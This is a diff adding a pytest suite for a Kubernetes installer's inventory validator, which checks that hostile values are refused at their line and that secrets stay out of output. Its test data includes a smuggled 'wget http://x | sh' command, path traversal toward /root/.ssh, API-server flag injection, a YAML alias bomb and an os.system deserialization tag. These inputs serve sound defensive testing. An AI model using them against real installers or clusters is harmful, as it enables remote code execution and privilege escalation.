@@ -1,0 +1,134 @@
+"""Values a careless or hostile user may write: each is refused at validate with its file, line and
+key, never an internal error, never echoing a secret."""
+
+import json
+import time
+
+import pytest
+from click.testing import CliRunner
+
+from installer.cli import cli
+from installer.inventory.validate import validate
+
+GROUPS = ("  children:\n    kube_control_plane: {hosts: {n1: }}\n    etcd: {hosts: {n1: }}\n"
+          "    kube_node: {hosts: {n1: }}\n")
+
+
+def _inventory(tmp_path, cluster_vars: str = "", host_vars: str = "") -> str:
+    text = "all:\n"
+    if cluster_vars:
+        text += "  vars:\n" + "".join(f"    {line}\n" for line in cluster_vars.splitlines())
+    if host_vars:
+        text += f"  hosts:\n    n1: {host_vars}\n"
+    (tmp_path / "hosts.yml").write_text(text + GROUPS)
+    return str(tmp_path / "hosts.yml")
+
+
+@pytest.fixture(autouse=True)
+def _in_tmp(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)  # findings name files relative to here
+
+
+def _errors(path) -> list[str]:
+    return [f.text() for f in validate(path).report.errors]
+
+
+@pytest.mark.parametrize("setting, line, key", [
+    ('cluster_name: "corp.local\\n"', 3, "$.all.vars.cluster_name"),
+    ('drain_timeout: "360s\\n"', 3, "$.all.vars.drain_timeout"),
+    ("kube_apiserver_port: 6443.0", 3, "$.all.vars.kube_apiserver_port"),
+    ('verify_external_name: "kubernetes.io; wget http://x | sh"', 3, "$.all.vars.verify_external_name"),
+    ("containerd_registries_mirrors: [{prefix: ../../../root/.ssh, mirrors: [{host: 'https://m.example'}]}]", 3,
+     "$.all.vars.containerd_registries_mirrors[0].prefix"),
+    ("""containerd_registries_mirrors: [{prefix: docker.io, mirrors: [{host: 'https://m"] x = "1'}]}]""", 3,
+     "$.all.vars.containerd_registries_mirrors[0].mirrors[0].host"),
+    ("kube_feature_gates: ['A=true --anonymous-auth=true']", 3, "$.all.vars.kube_feature_gates[0]"),
+    ("etcd_data_dir: /var/lib/etcd/../../../usr", 3, "$.all.vars.etcd_data_dir"),
+])
+def test_a_value_that_would_escape_where_it_lands_is_refused_at_its_line(tmp_path, setting, line, key):
+    errors = _errors(_inventory(tmp_path, setting))
+    assert len(errors) == 1, errors
+    assert errors[0].startswith(f"hosts.yml:{line}:") and f" {key}: " in errors[0], errors
+
+
+@pytest.mark.parametrize("host_vars, key", [
+    ('{node_labels: {role: "worker --authorization-mode=AlwaysAllow"}}', "node_labels.role"),
+    ('{node_labels: {"a,b": c}}', "node_labels"),
+    ('{node_labels: {"zone": "a=b"}}', "node_labels.zone"),
+    ('{node_taints: ["k=v,x=y:NoSchedule"]}', "node_taints[0]"),
+    ('{node_taints: ["k=v --x:NoSchedule"]}', "node_taints[0]"),
+    ('{etcd_member_name: "etcd1\\n"}', "etcd_member_name"),
+])
+def test_labels_taints_and_names_follow_kubernetes_syntax(tmp_path, host_vars, key):
+    errors = _errors(_inventory(tmp_path, host_vars=host_vars))
+    assert len(errors) == 1 and f"$.all.hosts.n1.{key}" in errors[0], errors
+
+
+def test_a_value_with_a_newline_is_shown_escaped(tmp_path):
+    errors = _errors(_inventory(tmp_path, 'cluster_name: "corp.local\\n"'))
+    assert "\n" not in errors[0] and '"corp.local\\n" is not a DNS domain' in errors[0]
+
+
+def test_kubernetes_label_syntax_is_accepted(tmp_path):
+    path = _inventory(tmp_path, host_vars='{node_labels: {"example.com/zone": "eu-west-1a", tier: "", "a.b": x_y.z},'
+                                         ' node_taints: ["dedicated=db:NoSchedule", "example.com/gpu:NoExecute"]}')
+    assert validate(path).report.ok
+
+
+@pytest.mark.parametrize("pattern, message", [
+    ("node[1:6:0]", "has stride 0; a stride is 1 or more"),
+    ("node[5:1]", "runs backwards (5 is after 1) and names no host; write [1:5]"),
+    ("node[1:30000]", "names 30000 hosts; kinstall takes at most 10000 from one range"),
+])
+def test_host_ranges_ansible_would_refuse_are_refused_at_their_key(tmp_path, pattern, message):
+    (tmp_path / "hosts.yml").write_text(
+        "all:\n  children:\n    kube_control_plane: {hosts: {n1: }}\n    etcd: {hosts: {n1: }}\n"
+        f"    kube_node:\n      hosts:\n        '{pattern}':\n")
+    started = time.perf_counter()
+    errors = _errors(tmp_path / "hosts.yml")
+    assert time.perf_counter() - started < 5
+    assert errors == [f'hosts.yml:7:9: $.all.children.kube_node.hosts["{pattern}"]: host range \'{pattern}\' {message}']
+
+
+def test_a_large_range_expands_in_linear_time(tmp_path):
+    (tmp_path / "hosts.yml").write_text(
+        "all:\n  vars: {kube_pods_subnet: 10.128.0.0/9, kube_service_addresses: 10.64.0.0/18}\n"
+        "  children:\n    kube_control_plane: {hosts: {n1: }}\n    etcd: {hosts: {n1: }}\n"
+        "    kube_node:\n      hosts:\n        'node[1:9999]':\n")
+    started = time.perf_counter()
+    result = validate(tmp_path / "hosts.yml")
+    assert time.perf_counter() - started < 5
+    assert result.report.ok and len(result.cluster.hosts) == 10000
+
+
+def test_a_yaml_alias_bomb_stops_at_a_line_quickly(tmp_path):
+    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    for previous, name in zip("abcdefgh", "bcdefghi"):
+        lines.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
+    (tmp_path / "hosts.yml").write_text("\n".join(lines) + "\n")
+    started = time.perf_counter()
+    findings = validate(tmp_path / "hosts.yml").report.errors
+    assert time.perf_counter() - started < 5
+    assert [f.rule for f in findings] == ["yaml-aliases"] and findings[0].path.startswith("$.")
+
+
+@pytest.mark.parametrize("tagged", ["!!timestamp notadate", "!!bool maybe", "!!int '12a'", "!!python/object:os.system x"])
+def test_a_value_that_does_not_fit_its_yaml_tag_is_a_finding_at_its_line(tmp_path, tagged):
+    errors = _errors(_inventory(tmp_path, f"cluster_name: {tagged}"))
+    assert len(errors) == 1 and errors[0].startswith("hosts.yml:3:") and "$.all.vars.cluster_name" in errors[0]
+
+
+def test_secrets_never_appear_in_findings_text_or_json(tmp_path):
+    (tmp_path / "hosts.yml").write_text(
+        "all:\n  hosts:\n    n1: {ansible_become_password: 918273645, ansible_password: [s3cr3t-pw]}\n"
+        "    n2: {ceph_csi_user_key: AQBhiddenkey==}\n"
+        "  vars: {ceph_csi_user_key: AQBotherhidden==}\n" + GROUPS.replace("n1: }}\n    kube_node", "n1: }}\n"
+                                                                          "    kube_node").replace(
+            "kube_node: {hosts: {n1: }}", "kube_node: {hosts: {n1: , n2: }}"))
+    for output_format in ("text", "json"):
+        result = CliRunner().invoke(cli, ["validate", "--format", output_format, str(tmp_path / "hosts.yml")])
+        assert result.exit_code == 1, result.output
+        for secret in ("918273645", "s3cr3t-pw", "AQBhiddenkey", "AQBotherhidden"):
+            assert secret not in result.output
+    body = json.loads(CliRunner().invoke(cli, ["validate", "--format", "json", str(tmp_path / "hosts.yml")]).output)
+    assert any("ansible_become_password" in f["path"] for f in body["findings"])
